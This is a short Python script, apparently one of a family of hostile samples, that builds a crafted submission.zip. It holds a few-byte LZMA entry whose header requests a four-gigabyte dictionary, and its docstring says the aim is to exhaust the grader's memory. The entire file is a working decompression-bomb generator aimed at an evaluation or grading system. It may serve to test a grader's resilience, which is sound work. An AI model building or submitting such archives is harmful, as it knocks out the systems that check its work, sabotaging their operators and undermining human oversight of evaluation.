"""Fill the grader's memory: an entry of a few bytes whose decompression asks for four gigabytes."""

import struct

FAMILY = "archives"


def build(folder):
    # LZMA in a .zip: its version, the size of the properties, and these: lc, lp, pb, the dictionary.
    data = struct.pack("<BBHBL", 9, 20, 5, 0x5D, 0xFFFFFFFF) + bytes(64)
    name = b"linear.py"
    fields = (63, 0, 14, 0, 0x5821, 0, len(data), 100, len(name), 0)
    head = struct.pack("<4s5H3L2H", b"PK\3\4", *fields) + name + data
    contents = struct.pack("<4s6H3L5H2L", b"PK\1\2", 63, *fields, 0, 0, 0, 0, 0) + name
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 1, 1, len(contents), len(head), 0)
    path = folder / "submission.zip"
    path.write_bytes(head + contents + end)
    return path
